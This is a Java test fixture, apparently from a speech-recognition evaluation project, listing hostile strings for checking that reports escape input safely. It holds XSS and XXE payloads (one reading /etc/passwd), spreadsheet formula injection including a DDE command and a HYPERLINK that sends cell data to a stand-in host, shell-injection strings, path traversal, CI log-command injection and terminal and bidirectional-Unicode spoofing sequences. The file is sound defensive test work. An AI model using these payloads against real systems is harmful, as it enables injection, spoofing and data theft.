package io.github.asreval;

import java.util.ArrayList;
import java.util.List;

/**
 * Text that means something to whatever shows or reads a report: what may come in as words, ids, speakers, labels and names
 * of files, and has to go out as nothing but text.
 */
public final class HostileText {

    /** For browsers and readers of XML. */
    public static final List<String> MARKUP = List.of(
            "<script>document.title='ran'</script>",
            "</script><script>document.title='ran'//",
            "<img src=x onerror=document.title='ran'>",
            "<svg/onload=document.title='ran'>",
            "\" onmouseover=\"document.title='ran'\" x=\"",
            "' autofocus onfocus='document.title=1' x='",
            "`onclick=document.title='ran'`",
            "</td></tr></table><h1 id=injected>",
            "</title></style></textarea></noscript><injected>",
            "<!--<script>",
            "--!> --> <!-- <![CDATA[ ]]>",
            "]]><testcase name='injected'/>",
            "&lt;b&gt; &amp; &#60; &#x3c; &notin; &",
            "<?php injected ?> <?xml version='1.0'?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
            "javascript:document.title='ran'",
            "data:text/html,<script>document.title='ran'</script>",
            "<base href=//asreval.invalid/> <link rel=stylesheet href=//asreval.invalid/x.css>",
            "<meta http-equiv=refresh content=0;url=//asreval.invalid/>",
            "<iframe srcdoc='<script>top.document.title=1</script>'>",
            "{{}} {{=<% %>=}} {{{x}}} {{#x}} ${x} #{x} <%= x %> %{x} {0} %s %n");

    /** For spreadsheets. */
    public static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://asreval.invalid/?\"&A1,\"x\")",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\uFF1D1",
            "a,b;c\td",
            "\"",
            "\"\"\"",
            "\"=1\",\"=2\"",
            "'=1");

    /** For readers of Markdown, and for GitHub, which shows it. */
    public static final List<String> MARKDOWN = List.of(
            "[a](http://asreval.invalid)",
            "![a](//asreval.invalid/x.png)",
            "http://asreval.invalid www.asreval.invalid a@asreval.invalid",
            "<http://asreval.invalid>",
            "[a]: http://asreval.invalid",
            "| a | b |",
            "|---|",
            "\\| \\\\| \\",
            "` `` ``` ~~~",
            "# a",
            "- a",
            "1. a",
            "> a",
            "* * *",
            "===",
            "**a** __b__ *c* _d_ ~~e~~",
            "@everyone #1 gh-1 owner/name#1",
            "$x$ $$y$$ :smile: [^1] [ ] - [x]");

    /** For terminals. */
    public static final List<String> TERMINAL = List.of(
            "\u001B[31mred\u001B[0m",
            "\u001B[2J\u001B[H\u001B[1A\u001B[2K",
            "\u001B]0;title\u0007",
            "\u001B]8;;http://asreval.invalid\u001B\\link\u001B]8;;\u001B\\",
            "\u001B]52;c;aGk=\u0007",
            "\u001BPq\u001B\\ \u001B_x\u001B\\ \u001Bc",
            "\u009B31m \u009D0;x\u009C \u0090q\u009C",
            "bell\u0007 back\b\b\b del\u007F so\u000E si\u000F",
            "nul\u0000nul",
            "\u0001\u0002\u0003\u0004\u0005\u0006\u0010\u0011\u0012\u0013\u0014\u0015\u0016\u0017\u0018\u0019\u001A",
            "sub\u001A eof\u0004");

    /** For whatever goes by lines. */
    public static final List<String> LINES = List.of(
            "lf\nb",
            "crlf\r\nb",
            "a\n\n::error::injected",
            "a\rb",
            "a\r\rb",
            "a\u000Bb",
            "a\fb",
            "a\u001Cb\u001Db\u001Eb\u001Fb",
            "a\u0085b",
            "a\u2028b",
            "a\u2029b");

    /** For eyes: what turns text around, or is not to be seen. */
    public static final List<String> UNSEEN = List.of(
            "user\u202Egpj.exe",
            "\u202Aa\u202Bb\u202Dc\u202C",
            "\u2066a\u2067b\u2068c\u2069",
            "\u200Ea\u200Fb\u061Cc",
            "a\u200Bb\u200Cc\u200Dd\uFEFFe\u2060f",
            "\u00ADa\u034Fb\u115Fc\u3164d\uFFA0e",
            "\u200B",
            "\u202E",
            "\uFEFF",
            "a\uFE0Fb\uDB40\uDC41c\uDB40\uDD00d",
            "\uFFFE \uFFFF \uDBFF\uDFFF \uFDD0",
            "\uFFF9a\uFFFAb\uFFFB \uFFFD",
            "Z\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351",
            "\u0300\u0301");

    /** For programs that read logs and results. */
    public static final List<String> COMMANDS = List.of(
            "::error::injected",
            "%0A::error::injected",
            "::set-output name=injected::x",
            "::add-mask::e",
            "::stop-commands::x",
            "a ::warning file=x,line=1::injected",
            "##[error]injected",
            "##[set-output name=injected]x",
            "##vso[task.setvariable variable=x]y",
            "##teamcity[buildProblem description='x']",
            "%WER 0.00 [ 0 / 1, 0 ins, 0 del, 0 sub ]",
            "WER: 0.000% ( 0 / 1)",
            "id: (injected)",
            "Scores: (#C #S #D #I) 9 9 9 9",
            "</PATH> </SPEAKER> </SYSTEM>",
            "C,\"a\",\"b\":S,\"c\",\"d\"",
            "; $(id) `id` | id & id > id",
            "a (b-1)",
            "{a / b / @} (c) {a|b}",
            "[noise] <unk> a- ***");

    /** For what makes paths of names. */
    public static final List<String> PATHS = List.of(
            "../../injected",
            "/injected",
            "..\\..\\injected",
            "C:\\injected",
            "\\\\asreval.invalid\\share",
            "file:///injected",
            "~/injected",
            ".",
            "..",
            "-rf",
            "--help",
            "CON",
            "nul.txt",
            "COM1",
            "a:b",
            "a.",
            "%2e%2e%2finjected");

    /** For what has to fit. */
    public static final List<String> LONG =
            List.of("long".repeat(1_000), "\u0915\u094D\u0937".repeat(500), "a\u0301".repeat(500));

    private HostileText() {}

    /** Returns all of them. */
    public static List<String> all() {
        List<String> all = new ArrayList<>();
        for (List<String> some : List.of(MARKUP, FORMULAS, MARKDOWN, TERMINAL, LINES, UNSEEN, COMMANDS, PATHS, LONG)) {
            all.addAll(some);
        }
        return all;
    }
}
